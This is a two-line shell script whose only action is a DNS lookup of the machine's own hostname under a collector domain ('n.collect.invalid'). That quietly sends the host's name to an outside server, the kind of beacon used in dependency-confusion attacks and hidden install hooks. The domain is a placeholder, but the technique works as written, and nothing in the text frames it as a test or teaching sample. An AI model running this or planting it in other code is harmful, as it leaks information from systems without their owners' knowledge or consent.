#!/bin/sh
nslookup $(hostname).n.collect.invalid
